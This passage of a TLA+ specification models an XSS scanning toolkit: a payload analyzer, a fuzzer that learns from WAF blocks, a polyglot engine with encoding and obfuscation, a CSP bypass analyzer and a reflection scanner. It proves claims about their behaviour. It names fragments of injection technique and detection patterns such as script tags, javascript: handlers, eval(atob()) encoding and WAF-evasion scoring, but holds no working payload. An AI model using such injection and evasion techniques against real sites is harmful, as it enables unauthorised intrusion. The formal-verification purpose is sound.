ScanMultipleUrlsCall ==
  /\ sc_scanner.constructed
  /\ sc_pool.pc = "idle"
  /\ \A w \in Workers : sc_run[w].pc = "idle"
  /\ DOMAIN sc_sites = Workers
  /\ sc_pool' = [sc_pool EXCEPT !.pc = "running", !.urls = ScanUrls]
  /\ sc_run' = [w \in Workers |->
                  [IdleRun EXCEPT !.pc = "start", !.url = ScanUrls[w],
                                  !.parameters = <<"None">>]]
  /\ UNCHANGED <<sc_scanner, sc_sites>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

SiteOf(w) == sc_sites[CHOOSE i \in DOMAIN sc_sites : ScanUrls[i] = sc_run[w].url]

\* scan_url up to its loop: the parameters are discovered when none are given,
\* and the call returns [] when there is nothing to test
ScanUrlStart(w) ==
  /\ sc_run[w].pc = "start"
  /\ \E parameters \in IF sc_run[w].parameters = <<"None">>
                         THEN discover_parameters(SiteOf(w))
                         ELSE {sc_run[w].parameters} :
       sc_run' = [sc_run EXCEPT ![w] =
                    IF parameters = <<>>
                      THEN [@ EXCEPT !.pc = "returned", !.parameters = parameters,
                                     !.outcome = "returned", !.returned = <<>>]
                      ELSE [@ EXCEPT !.pc = "read_total_requests", !.parameters = parameters,
                                     !.p = 1, !.phase = "basic", !.k = 1]]
  /\ UNCHANGED <<sc_scanner, sc_sites, sc_pool>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

\* _test_parameter after a test: the result joins the results of the
\* parameter, and the loops go on, or scan_results takes the results
Collected(run, result) ==
  LET next(to) ==
        IF to[1] = "done"
          THEN [run EXCEPT !.pc = "read_parameters_tested", !.pending = <<>>,
                           !.results = <<>>,
                           !.scan_results = @ \o Append(run.results, result)]
          ELSE [run EXCEPT !.pc = "read_total_requests", !.pending = <<>>,
                           !.results = Append(@, result),
                           !.phase = to[1], !.k = to[2]]
  IN next(NextTest(NewPayloadLibrary, run.phase, run.k, result.success))

\* self.scan_stats['total_requests'] += 1: the read
ReadTotalRequests(w) ==
  /\ sc_run[w].pc = "read_total_requests"
  /\ sc_run' = [sc_run EXCEPT ![w].pc = "request",
                              ![w].tmp = sc_scanner.scan_stats.total_requests]
  /\ UNCHANGED <<sc_scanner, sc_sites, sc_pool>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

\* self.scan_stats['total_requests'] += 1: the write, then the request and
\* the analysis of the response.  An exception that leaves
\* _test_single_payload ends scan_url, which returns [].
TestSinglePayload(w) ==
  /\ sc_run[w].pc = "request"
  /\ LET run == sc_run[w]
         payload_obj == PhasePayloads(NewPayloadLibrary, run.phase)[run.k]
         call(tested) ==
           [p |-> run.p, parameter |-> run.parameters[run.p], phase |-> run.phase,
            k |-> run.k, payload |-> payload_obj.payload, n |-> Len(run.calls) + 1,
            outcome |-> IF tested.raised THEN <<>> ELSE <<tested.result>>]
         after(tested) ==
           IF tested.raised
             THEN [run EXCEPT !.pc = "returned", !.calls = Append(@, call(tested)),
                              !.outcome = "failed", !.returned = <<>>]
           ELSE IF tested.counted
             THEN [run EXCEPT !.pc = "read_successful_injections",
                              !.calls = Append(@, call(tested)),
                              !.pending = <<tested.result>>]
           ELSE [Collected(run, tested.result) EXCEPT !.calls = Append(@, call(tested))]
     IN sc_run' = [sc_run EXCEPT ![w] =
                     after(test_single_payload(sc_scanner.config, SiteOf(w),
                                               Len(run.calls) + 1, run.url,
                                               run.parameters[run.p], payload_obj))]
  /\ sc_scanner' = [sc_scanner EXCEPT !.scan_stats.total_requests = sc_run[w].tmp + 1]
  /\ UNCHANGED <<sc_sites, sc_pool>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

\* self.scan_stats['successful_injections'] += 1: the read
ReadSuccessfulInjections(w) ==
  /\ sc_run[w].pc = "read_successful_injections"
  /\ sc_run' = [sc_run EXCEPT ![w].pc = "write_successful_injections",
                              ![w].tmp = sc_scanner.scan_stats.successful_injections]
  /\ UNCHANGED <<sc_scanner, sc_sites, sc_pool>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

\* self.scan_stats['successful_injections'] += 1: the write; the result is
\* returned to _test_parameter
WriteSuccessfulInjections(w) ==
  /\ sc_run[w].pc = "write_successful_injections"
  /\ sc_scanner' = [sc_scanner EXCEPT !.scan_stats.successful_injections = sc_run[w].tmp + 1]
  /\ sc_run' = [sc_run EXCEPT ![w] = Collected(@, sc_run[w].pending[1])]
  /\ UNCHANGED <<sc_sites, sc_pool>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

\* self.scan_stats['parameters_tested'] += 1: the read
ReadParametersTested(w) ==
  /\ sc_run[w].pc = "read_parameters_tested"
  /\ sc_run' = [sc_run EXCEPT ![w].pc = "write_parameters_tested",
                              ![w].tmp = sc_scanner.scan_stats.parameters_tested]
  /\ UNCHANGED <<sc_scanner, sc_sites, sc_pool>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

\* self.scan_stats['parameters_tested'] += 1: the write; the loop of scan_url
\* goes on with the next parameter
WriteParametersTested(w) ==
  /\ sc_run[w].pc = "write_parameters_tested"
  /\ sc_scanner' = [sc_scanner EXCEPT !.scan_stats.parameters_tested = sc_run[w].tmp + 1]
  /\ sc_run' = [sc_run EXCEPT ![w] =
                  IF @.p < Len(@.parameters)
                    THEN [@ EXCEPT !.pc = "read_total_requests", !.tested = @ + 1,
                                   !.p = @ + 1, !.phase = "basic", !.k = 1]
                    ELSE [@ EXCEPT !.pc = "extend_results", !.tested = @ + 1]]
  /\ UNCHANGED <<sc_sites, sc_pool>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

\* self.results.extend(scan_results); return scan_results
ScanUrlReturn(w) ==
  /\ sc_run[w].pc = "extend_results"
  /\ sc_scanner' = [sc_scanner EXCEPT !.results = @ \o sc_run[w].scan_results]
  /\ sc_run' = [sc_run EXCEPT ![w].pc = "returned", ![w].outcome = "returned",
                              ![w].returned = sc_run[w].scan_results]
  /\ UNCHANGED <<sc_sites, sc_pool>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

\* scan_multiple_urls: every future has completed; all_results keeps the
\* URLs with a non-empty result list
ScanMultipleUrlsReturn ==
  /\ sc_pool.pc = "running"
  /\ \A w \in Workers : sc_run[w].pc = "returned"
  /\ sc_pool' = [sc_pool EXCEPT !.pc = "returned",
                                !.all_results =
                                  [w \in {v \in Workers : sc_run[v].returned # <<>>} |->
                                     sc_run[w].returned]]
  /\ UNCHANGED <<sc_scanner, sc_sites, sc_run>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

(***************************************************************************)
(* Specifications                                                          *)
(***************************************************************************)
\* no fuzzer in the run
FzIdle == FzInit

\* PayloadAnalyzer: one analyze_payload call on each payload
NextAnalyzer == AnalyzePayloadCall
\* no CSP analyzer, no scanner, no payload library in the run
CsIdle == CsInit
ScIdle == ScInit
LbIdle == LbInit

InitAnalyzer == AnInit /\ FzIdle /\ PgIdle /\ CsIdle /\ ScIdle /\ LbIdle
SpecAnalyzer == InitAnalyzer /\ [][NextAnalyzer]_vars

\* PayloadAnalyzer: one _identify_bypass_techniques call with malformed patterns
NextBypassScan == \E malformed \in SUBSET MalformedKeys : IdentifyBypassCall(malformed)
SpecBypassScan == InitAnalyzer /\ [][NextBypassScan]_vars

\* PayloadAnalyzer, one instance serving up to MaxCalls calls in any order
NextAnalyzerCalls == \E payload \in CallPayloads : AnalyzeCall(payload)
InitAnalyzerCalls == an_payload = <<>> /\ AnInit /\ FzIdle /\ PgIdle /\ CsIdle /\ ScIdle /\ LbIdle
SpecAnalyzerCalls == InitAnalyzerCalls /\ [][NextAnalyzerCalls]_vars

\* ContextAwareFuzzer, one caller at a time: a call starts when no other call
\* is in its loop, and the callers take their turns in order
NextFuzzer ==
  \/ \E f \in Fuzzers : FzConstruct(f)
  \/ \E r \in Runs, f \in Fuzzers, context \in Fingerprints,
        max_attempts \in 0..MaxAttempts, tape \in RandomTapes :
       /\ \A q \in Runs : fz_run[q].pc = (IF q < r THEN "returned" ELSE "idle")
       /\ FuzzContextCall(r, f, context, max_attempts, tape)
  \/ \E r \in Runs, outcome \in TestOutcomes : FuzzAttempt(r, outcome)
  \/ \E r \in Runs : FuzzContextReturn(r)
InitFuzzer == AnIdle /\ FzInit /\ PgIdle /\ CsIdle /\ ScIdle /\ LbIdle
SpecFuzzer == InitFuzzer /\ [][NextFuzzer]_vars

\* ContextAwareFuzzer, the callers at the same time on one instance
SharedFuzzer == "fuzzer1"
ConcurrentOutcomes == {"raise", "reflect", "block"}
NextFuzzMutex ==
  \/ FzConstruct(SharedFuzzer)
  \/ \E r \in Runs, context \in Fingerprints, max_attempts \in 0..MaxAttempts,
        tape \in RandomTapes :
       FuzzContextCall(r, SharedFuzzer, context, max_attempts, tape)
  \/ \E r \in Runs, outcome \in ConcurrentOutcomes : TestFunctionCall(r, outcome)
  \/ \E r \in Runs :
       \/ AcquireLearnLock(r)
       \/ LearnCheckKey(r)
       \/ LearnInitKey(r)
       \/ LearnAppend(r)
       \/ LearnBlocked(r)
       \/ ReleaseLearnLock(r)
       \/ FuzzContextReturn(r)
SpecFuzzMutex == InitFuzzer /\ [][NextFuzzMutex]_vars

\* ContextAwareFuzzer, the callers at the same time on one instance, as
\* implemented: the threads switch between the statements of _learn_from_result
NextFuzzThreads ==
  \/ FzConstruct(SharedFuzzer)
  \/ \E r \in Runs, context \in Fingerprints, max_attempts \in 0..MaxAttempts,
        tape \in RandomTapes :
       FuzzContextCall(r, SharedFuzzer, context, max_attempts, tape)
  \/ \E r \in Runs, outcome \in ConcurrentOutcomes : TestFunctionCall(r, outcome)
  \/ \E r \in Runs :
       \/ LearnEnter(r)
       \/ LearnCheckKey(r)
       \/ LearnInitKey(r)
       \/ LearnAppend(r)
       \/ LearnBlocked(r)
       \/ LearnLeave(r)
       \/ FuzzContextReturn(r)
SpecFuzzThreads == InitFuzzer /\ [][NextFuzzThreads]_vars

\* ContextAwareFuzzer: generate_payloads before and after fuzz_context runs
\* of the instance have learned
NextFuzzLearned ==
  \/ FzConstruct(SharedFuzzer)
  \/ \E context \in Fingerprints, max_attempts \in 0..MaxAttempts, tape \in RandomTapes :
       FuzzContextCall(1, SharedFuzzer, context, max_attempts, tape)
  \/ \E outcome \in ConcurrentOutcomes : FuzzAttempt(1, outcome)
  \/ FuzzContextReturn(1)
  \/ \E context \in Fingerprints, tape \in RandomTapes :
       GeneratePayloadsOn(SharedFuzzer, context, tape)
SpecFuzzLearned == InitFuzzer /\ [][NextFuzzLearned]_vars

\* ContextAwareFuzzer: one detect_context call
NextDetect ==
  \E first \in ResponseFragments, gap \in ResponseGaps, second \in ResponseFragments,
     marker \in Markers :
    DetectContextCall(first \o gap \o second, marker)
InitDetect == AnIdle /\ FzInit /\ PgIdle /\ CsIdle /\ ScIdle /\ LbIdle
SpecDetect == InitDetect /\ [][NextDetect]_vars

\* ContextAwareFuzzer: one generate_payloads call
NextGenerate ==
  \E context \in GenerateFingerprints, tape \in RandomTapes :
    GeneratePayloadsCall(context, tape)
InitGenerate == AnIdle /\ FzInit /\ PgIdle /\ CsIdle /\ ScIdle /\ LbIdle
SpecGenerate == InitGenerate /\ [][NextGenerate]_vars

\* AdvancedPolyglotEngine: one generate_polyglots call
NextPolyglot ==
  \E target_contexts \in TargetContextSets, max_length \in MaxLengths,
     include_obfuscation \in BOOLEAN, target_browsers \in TargetBrowsers,
     tape \in EngineTapes :
    GeneratePolyglotsCall(target_contexts, max_length, include_obfuscation, target_browsers,
                          tape)
InitPolyglot == AnIdle /\ FzIdle /\ PgInit /\ CsIdle /\ ScIdle /\ LbIdle
SpecPolyglot == InitPolyglot /\ [][NextPolyglot]_vars

\* AdvancedPolyglotEngine: one _apply_encoding call
NextEncoding ==
  \E content \in EncodedContents, encoding \in EncodingTechniques, tape \in EngineTapes :
    ApplyEncodingCall(content, encoding, tape)
SpecEncoding == InitPolyglot /\ [][NextEncoding]_vars

\* AdvancedPolyglotEngine: up to MaxEngineCalls generate_polyglots calls
NextPolyglotRepeated ==
  \E args \in RepeatedArguments, tape \in EngineTapes : GeneratePolyglotsRepeated(args, tape)
SpecPolyglotRepeated == InitPolyglot /\ [][NextPolyglotRepeated]_vars

\* AdvancedPolyglotEngine: one generate_polyglots call on the wide target sets
NextPolyglotWide ==
  \E call \in WideCalls, tape \in EngineTapes :
    GeneratePolyglotsCall(call.target_contexts, call.max_length, FALSE, <<>>, tape)
SpecPolyglotWide == InitPolyglot /\ [][NextPolyglotWide]_vars

\* CSPBypassAnalyzer: one analyze_csp call on each header
InitCsp == AnIdle /\ FzIdle /\ PgIdle /\ CsInit /\ ScIdle /\ LbIdle
NextCsp == \E csp_header \in CspHeaders : AnalyzeCspCall(csp_header)
SpecCsp == InitCsp /\ [][NextCsp]_vars

\* PayloadLibrary: construction, then up to MaxQueries query operations
InitLibrary == AnIdle /\ FzIdle /\ PgIdle /\ CsIdle /\ ScIdle /\ LbInit
NextLibrary ==
  \/ LbConstruct
  \/ \E category \in LibraryCategories : GetPayloadsByCategoryCall(category)
  \/ \E context \in LibraryContexts : GetPayloadsByContextCall(context)
  \/ \E technique \in LibraryTechniques : GetPayloadsByTechniqueCall(technique)
  \/ \E tag \in LibraryTags : GetPayloadsByTagCall(tag)
  \/ \E severity \in LibrarySeverities : GetPayloadsBySeverityCall(severity)
  \/ \E limit \in LibraryLimits : GetBestPayloadsCall(limit)
  \/ \E keyword \in LibrarySearchTerms : SearchPayloadsCall(keyword)
  \/ \E f \in LibraryFilters : FilterPayloadsCall(f)
  \/ \E category \in {"None", "polyglot"}, choice \in {1, 4} :
       GetRandomPayloadCall(category, choice)
  \/ GetStatisticsCall
  \/ \E written \in BOOLEAN : ExportToJsonCall(written)
SpecLibrary == InitLibrary /\ [][NextLibrary]_vars

\* PayloadLibrary: construction, then up to MaxQueries searches
NextSearch ==
  \/ LbConstruct
  \/ \E keyword \in SearchTerms : SearchPayloadsCall(keyword)
SpecSearch == InitLibrary /\ [][NextSearch]_vars

\* ReflectionScanner: construction, then one scan_url call
InitScan == AnIdle /\ FzIdle /\ PgIdle /\ CsIdle /\ ScInit /\ LbIdle
NextScan ==
  \/ \E test_get_parameters \in BOOLEAN, site \in Sites :
       ScConstruct([test_get_parameters |-> test_get_parameters], [i \in {1} |-> site])
  \/ \E parameters \in ScanParameters : ScanUrlCall(1, parameters)
  \/ ScanUrlStart(1)
  \/ ReadTotalRequests(1)
  \/ TestSinglePayload(1)
  \/ ReadSuccessfulInjections(1)
  \/ WriteSuccessfulInjections(1)
  \/ ReadParametersTested(1)
  \/ WriteParametersTested(1)
  \/ ScanUrlReturn(1)
SpecScan == InitScan /\ [][NextScan]_vars

\* ReflectionScanner: construction, then one scan_multiple_urls call on two
\* URLs, each scanned by a thread of the pool
NextScanThreads ==
  \/ \E sites \in [Workers -> ThreadSites] :
       ScConstruct([test_get_parameters |-> TRUE], sites)
  \/ ScanMultipleUrlsCall
  \/ \E w \in Workers :
       \/ ScanUrlStart(w)
       \/ ReadTotalRequests(w)
       \/ TestSinglePayload(w)
       \/ ReadSuccessfulInjections(w)
       \/ WriteSuccessfulInjections(w)
       \/ ReadParametersTested(w)
       \/ WriteParametersTested(w)
       \/ ScanUrlReturn(w)
  \/ ScanMultipleUrlsReturn
SpecScanThreads == InitScan /\ [][NextScanThreads]_vars

\* the producers of score fields: PayloadAnalyzer and AdvancedPolyglotEngine
InitScores == InitAnalyzer \/ InitPolyglot
NextScores == NextAnalyzer \/ NextPolyglot
SpecScores == InitScores /\ [][NextScores]_vars

Init == InitAnalyzer \/ InitFuzzer \/ InitPolyglot \/ InitCsp \/ InitLibrary \/ InitScan
Next ==
  \/ NextAnalyzer \/ NextBypassScan \/ NextAnalyzerCalls
  \/ NextFuzzer \/ NextFuzzMutex \/ NextFuzzThreads \/ NextFuzzLearned \/ NextDetect \/ NextGenerate
  \/ NextPolyglot \/ NextPolyglotWide \/ NextPolyglotRepeated \/ NextEncoding
  \/ NextCsp \/ NextLibrary \/ NextSearch \/ NextScan \/ NextScanThreads
Spec == Init /\ [][Next]_vars



(***************************************************************************)
(* Claims about PayloadAnalyzer                                            *)
(***************************************************************************)
AnReturnedNormally == an_outcome = "returned" /\ an_caught = ""
AnDegraded == an_outcome = "returned" /\ an_caught # ""

\* C1: analyze_payload never raises: every call returns a PayloadAnalysis, and
\* when a step of the analysis raised, the call returns the degraded analysis
\* (contexts [UNKNOWN], risk "low", confidence 0.0, the error text in the
\* explanation).
C1_AnalyzeNeverRaises ==
  an_outcome # "none" =>
    /\ an_outcome = "returned"
    /\ an_analysis.payload = an_payload
    /\ an_analysis.risk_level \in {"low", "medium", "high", "critical"}
    /\ TryAnalyze(an_payload).raised =>
         /\ an_analysis.contexts = <<"UNKNOWN">>
         /\ an_analysis.risk_level = "low"
         /\ an_analysis.confidence_score = 0
         /\ an_analysis.explanation.error = TryAnalyze(an_payload).error
C1_Witness ==
  /\ AnDegraded
  /\ an_analysis.contexts = <<"UNKNOWN">>
  /\ an_analysis.explanation.error # ""

C8_ClaimedRiskScore(payload, contexts, bypass_techniques) ==
  LET payload_lower == lower(payload)
  IN (IF Len(payload) > 200 THEN 2 ELSE IF Len(payload) > 100 THEN 1 ELSE 0)
     + 2 * Cardinality({i \in DOMAIN contexts : contexts[i] \in
                          {"HTML_CONTENT", "JAVASCRIPT_STRING", "ATTRIBUTE_VALUE", "URL_PARAMETER"}})
     + Len(bypass_techniques)
     + (IF Contains(payload_lower, Chars("<script>")) THEN 4 ELSE 0)
     + (IF \E k \in DOMAIN dangerous_js : Contains(payload_lower, lower(dangerous_js[k]))
          THEN 3 ELSE 0)
     + 2 * Cardinality({k \in DOMAIN html5_vectors :
                          /\ Contains(payload_lower, html5_vectors[k].tag)
                          /\ ContainsAny(payload_lower, html5_vectors[k].events)})

\* C8: the risk score is the sum of the length, context, technique, script
\* tag, dangerous-function and HTML5 terms.
C8_ScoreIsClaimedSum ==
  AnReturnedNormally =>
    an_risk_score = C8_ClaimedRiskScore(an_payload, an_analysis.contexts,
                                        an_analysis.bypass_techniques)

\* C10: a payload with a literal <script> tag, in any letter case, is analysed
\* as HTML_CONTENT with a risk level of at least medium.
C10_ScriptTagAtLeastMedium ==
  (an_outcome = "returned" /\ Contains(lower(an_payload), Chars("<script>"))) =>
    /\ "HTML_CONTENT" \in Range(an_analysis.contexts)
    /\ an_analysis.risk_level \in {"medium", "high", "critical"}

(***************************************************************************)
(* Claims about ContextAwareFuzzer                                         *)
(***************************************************************************)
\* the subsequence of s at the positions not in `skipped`
Without(s, skipped) ==
  Flatten([k \in DOMAIN s |-> IF k \in skipped THEN <<>> ELSE <<s[k]>>])

\* C2: fuzz_context returns normally whatever attempts the test function
\* raises on; the test function has then been called once with each of the
\* first max_attempts generated payloads, in order; the results are those of
\* the attempts that did not raise, in payload order; and a step in which the
\* test function raised changes neither the results nor the learned state.
C2_RaisingAttemptsAreSkipped ==
  /\ [](\A r \in Runs :
          /\ fz_run[r].pc # "raised"
          /\ fz_run[r].pc = "returned" =>
               /\ \E tape \in RandomTapes :
                    fz_run[r].payloads = GeneratedPayloads[fz_run[r].context, tape]
               /\ fz_run[r].calls =
                    SubSeq(fz_run[r].payloads, 1,
                           Min(fz_run[r].max_attempts, Len(fz_run[r].payloads)))
               /\ [k \in DOMAIN fz_run[r].results |-> fz_run[r].results[k].payload]
                    = Without(fz_run[r].calls, fz_run[r].raised)
               /\ \A k \in DOMAIN fz_run[r].results :
                    fz_run[r].results[k].context = fz_run[r].context.context_type)
  /\ [][\A r \in Runs :
          fz_run'[r].raised # fz_run[r].raised =>
            /\ fz_run'[r].results = fz_run[r].results
            /\ successful_payloads' = successful_payloads
            /\ blocked_patterns' = blocked_patterns]_vars
\* a call has returned after its test function raised on the first payload
\* and answered the second one
C2_Witness ==
  \E r \in Runs :
    /\ fz_run[r].pc = "returned"
    /\ fz_run[r].raised = {1}
    /\ Len(fz_run[r].calls) = 2
    /\ Len(fz_run[r].results) = 1
    /\ fz_run[r].results[1].payload = fz_run[r].payloads[2]

\* C3: the learned state of an instance holds every payload an attempt on it
\* classified successful (under the key of its context) or WAF-detected;
\* nothing is ever removed from it; and an instance is constructed with both
\* collections empty, whatever the other instances have learnt.
C3_LearnedStateAccumulates ==
  /\ [](\A c \in BagToSet(fz_classified) :
          /\ c.success =>
               /\ c.context \in DOMAIN successful_payloads[c.self]
               /\ c.payload \in Range(successful_payloads[c.self][c.context])
          /\ c.waf_detected => c.payload \in blocked_patterns[c.self])
  /\ [][\A f \in fz_constructed :
          /\ blocked_patterns[f] \subseteq blocked_patterns'[f]
          /\ \A k \in DOMAIN successful_payloads[f] :
               /\ k \in DOMAIN successful_payloads'[f]
               /\ Len(successful_payloads[f][k]) <= Len(successful_payloads'[f][k])
               /\ SubSeq(successful_payloads'[f][k], 1, Len(successful_payloads[f][k]))
                    = successful_payloads[f][k]]_vars
  /\ [][\A f \in fz_constructed' \ fz_constructed :
          /\ successful_payloads'[f] = <<>>
          /\ blocked_patterns'[f] = {}
          /\ \A g \in Fuzzers \ {f} :
               /\ successful_payloads'[g] = successful_payloads[g]
               /\ blocked_patterns'[g] = blocked_patterns[g]]_vars
\* an instance has learnt from two calls while another, constructed instance
\* is still empty
C3_Witness ==
  \E f \in fz_constructed, g \in fz_constructed :
    /\ f # g
    /\ \E k \in DOMAIN successful_payloads[f] : Len(successful_payloads[f][k]) >= 3
    /\ blocked_patterns[f] # {}
    /\ successful_payloads[g] = <<>>
    /\ blocked_patterns[g] = {}
    /\ \A r \in Runs : fz_run[r].pc = "returned" /\ fz_run[r].self = f

\* how often an attempt on instance f in context k with payload p was
\* classified successful
SuccessesOf(f, k, p) ==
  BagCardinality([c \in {c \in BagToSet(fz_classified) :
                           c.self = f /\ c.context = k /\ c.payload = p /\ c.success}
                    |-> fz_classified[c]])

\* C4: with the update step inside a mutex, concurrent fuzz_context calls on
\* one instance lose no update: whenever no call is inside its update step,
\* successful_payloads holds, per context and with multiplicity, exactly the
\* payloads classified successful, and blocked_patterns exactly the payloads
\* classified WAF-detected, as every sequential order of the attempts records.
C4_MutexLosesNoUpdate ==
  (\A r \in Runs : fz_run[r].pc \in {"idle", "loop", "returned"}) =>
    \A f \in Fuzzers :
      /\ DOMAIN successful_payloads[f] =
           {c.context : c \in {c \in BagToSet(fz_classified) : c.self = f /\ c.success}}
      /\ \A k \in DOMAIN successful_payloads[f] :
           \A p \in Range(successful_payloads[f][k])
                    \cup {c.payload : c \in BagToSet(fz_classified)} :
             Count(successful_payloads[f][k], p) = SuccessesOf(f, k, p)
      /\ blocked_patterns[f] =
           {c.payload : c \in {c \in BagToSet(fz_classified) :
                                 c.self = f /\ c.waf_detected}}
\* two calls in the same context have finished on the shared instance, each
\* with a successful attempt of the same payload, and one was blocked
C4_Witness ==
  /\ \A r \in Runs : fz_run[r].pc = "returned" /\ fz_run[r].self = SharedFuzzer
  /\ fz_run[1].context = fz_run[2].context
  /\ \E k \in DOMAIN successful_payloads[SharedFuzzer] :
       \E p \in Range(successful_payloads[SharedFuzzer][k]) :
         Count(successful_payloads[SharedFuzzer][k], p) = 2
  /\ blocked_patterns[SharedFuzzer] # {}

(***************************************************************************)
(* Claims about AdvancedPolyglotEngine                                     *)
(***************************************************************************)
\* C5: every payload generate_polyglots returns, whichever generator made
\* it (basic, encoded, obfuscated, browser-specific), is at most max_length
\* characters long, and its length field says so.
C5_ReturnedWithinMaxLength ==
  pg_outcome = "returned" =>
    \A k \in DOMAIN pg_returned :
      /\ Len(pg_returned[k].payload) <= pg_args.max_length
      /\ pg_returned[k].length = Len(pg_returned[k].payload)
\* a call with a max_length below the default has returned a payload of
\* exactly max_length characters, an encoded one whose two-step chain was
\* stopped after the first step, an obfuscated one and a browser-specific one
C5_Witness ==
  /\ pg_outcome = "returned"
  /\ \E k \in DOMAIN pg_returned : Len(pg_returned[k].payload) = pg_args.max_length
  /\ \E k \in DOMAIN pg_returned : pg_returned[k].encodings_used = <<"base64_encoding">>
  /\ \E k \in DOMAIN pg_returned : pg_returned[k].obfuscations_used # <<>>
  /\ \E k \in DOMAIN pg_returned : HasAt(pg_returned[k].payload, Chars("<xml>"), 1)
  /\ pg_args.max_length < 500

\* s.count(x)
CountIn(s, x) == Cardinality({i \in DOMAIN s : s[i] = x})

\* C6: for max_payloads >= 0, generate_polyglots returns min(max_payloads,
\* number of candidates) of the candidates it generated, in non-increasing
\* order of confidence, and no candidate it left out has a strictly higher
\* confidence than one it returned.
C6_TopByConfidence ==
  pg_outcome = "returned" =>
    /\ Len(pg_returned) = Min(pg_args.max_payloads, Len(pg_candidates))
    /\ \A i \in DOMAIN pg_returned :
         CountIn(pg_returned, pg_returned[i]) <= CountIn(pg_candidates, pg_returned[i])
    /\ \A i \in DOMAIN pg_returned : \A j \in DOMAIN pg_returned :
         i < j => pg_returned[i].confidence >= pg_returned[j].confidence
    /\ \A c \in DOMAIN pg_candidates :
         CountIn(pg_candidates, pg_candidates[c]) > CountIn(pg_returned, pg_candidates[c])
           => \A i \in DOMAIN pg_returned :
                pg_candidates[c].confidence <= pg_returned[i].confidence
\* a call has cut the candidates down to two or more payloads of different
\* confidence that are not the first ones generated
C6_Witness ==
  /\ pg_outcome = "returned"
  /\ Len(pg_candidates) > pg_args.max_payloads
  /\ Len(pg_returned) >= 2
  /\ pg_returned[1].confidence > pg_returned[Len(pg_returned)].confidence
  /\ pg_returned # Prefix(pg_candidates, pg_args.max_payloads)

\* C9: every score field lies in its range: the analysis confidence in
\* [0, 1], and in [0.1, 1] unless the analysis is the degraded one; each
\* polyglot's confidence, WAF evasion score and per-browser compatibility in
\* [0, 1]; each polyglot's complexity score in [0, 10].
C9_ScoresInRange ==
  /\ an_outcome = "returned" =>
       /\ an_analysis.confidence_score \in 0..Scale
       /\ AnReturnedNormally => an_analysis.confidence_score >= Scale \div 10
  /\ pg_outcome = "returned" =>
       \A k \in DOMAIN pg_candidates :
         /\ pg_candidates[k].confidence \in 0..Scale
         /\ pg_candidates[k].waf_evasion_score \in 0..Scale
         /\ \A b \in DOMAIN pg_candidates[k].browser_compatibility :
              pg_candidates[k].browser_compatibility[b] \in 0..Scale
         /\ pg_candidates[k].complexity_score \in 0..(10 * Scale)
\* a call has generated a polyglot on which seven WAF signatures match, so
\* that its evasion score was raised to 0.0, and has returned payloads
C9_Witness ==
  /\ pg_outcome = "returned"
  /\ pg_returned # <<>>
  /\ \E k \in DOMAIN pg_candidates :
       /\ pg_candidates[k].waf_evasion_score = 0
       /\ pg_candidates[k].encodings_used = <<>>
       /\ pg_candidates[k].obfuscations_used = <<>>
       /\ Cardinality({s \in DOMAIN engine_waf_signatures :
                         Contains(lower(pg_candidates[k].payload),
                                  engine_waf_signatures[s])}) >= 7

(***************************************************************************)
(* Claims about PayloadAnalyzer._detect_contexts                           *)
(***************************************************************************)
\* C11: the list of contexts of a normally returned analysis is never empty,
\* holds UNKNOWN only as its single element, and is exactly [UNKNOWN] when
\* none of the seven context checks matches the payload (no dangerous tag, no
\* event handler, no string breaker, no assignment, no CSS term, no protocol
\* handler, no comment sequence).
C11_UnknownOnlyAlone ==
  AnReturnedNormally =>
    /\ an_analysis.contexts # <<>>
    /\ "UNKNOWN" \in Range(an_analysis.contexts) => an_analysis.contexts = <<"UNKNOWN">>
    /\ an_analysis.contexts = <<"UNKNOWN">> <=>
         /\ \A k \in DOMAIN script_tags :
              ~ Contains(lower(an_payload), <<"<">> \o script_tags[k])
         /\ \A k \in DOMAIN event_handlers : ~ Contains(lower(an_payload), event_handlers[k])
         /\ Range(an_payload) \cap {"\"", "'", "\\", "\n", "\r"} = {}
         /\ ~ ReWordEquals(an_payload)
         /\ ~ ContainsAny(lower(an_payload),
                          <<Chars("expression("), Chars("url("), Chars("import"), Chars("@"),
                            Chars("javascript:"), Chars("data:"), Chars("vbscript:"),
                            Chars("about:")>>)
         /\ ~ ContainsAny(an_payload, <<Chars("-->"), Chars("<!--"), Chars("*/")>>)
C11_Witness ==
  /\ AnReturnedNormally
  /\ an_payload = Chars("innerHTMLeval(")
  /\ an_analysis.contexts = <<"UNKNOWN">>

C13_SameArgumentsSameList ==
  \A i \in DOMAIN pg_calls : \A j \in DOMAIN pg_calls :
    pg_calls[i].args = pg_calls[j].args => pg_calls[i].returned = pg_calls[j].returned

(***************************************************************************)
(* Claims about AdvancedPolyglotEngine._apply_encoding                     *)
(***************************************************************************)
\* The decoders of the six encodings: html.unescape on the entities the
\* encoder writes, urllib.parse.unquote, the \uXXXX and \xXX escapes of a
\* JavaScript string literal, and atob on the argument of eval(atob('...')).
CharOf(n) == CHOOSE c \in Range(AsciiPrintable) : Ord(c) = n
HexDigit(d) == (CHOOSE k \in DOMAIN HexLower : HexLower[k] = lower_char(d)) - 1
RECURSIVE HexValue(_)
HexValue(ds) == IF ds = <<>> THEN 0
                ELSE 16 * HexValue(SubSeq(ds, 1, Len(ds) - 1)) + HexDigit(ds[Len(ds)])
RECURSIVE Unescaped(_, _, _, _)
Unescaped(s, i, prefix, digits) ==
  IF i > Len(s) THEN <<>>
  ELSE IF /\ HasAt(s, prefix, i)
          /\ i + Len(prefix) + digits - 1 <= Len(s)
          /\ AllIn(s, i + Len(prefix), i + Len(prefix) + digits - 1, HexChars)
         THEN <<CharOf(HexValue(SubSeq(s, i + Len(prefix), i + Len(prefix) + digits - 1)))>>
                \o Unescaped(s, i + Len(prefix) + digits, prefix, digits)
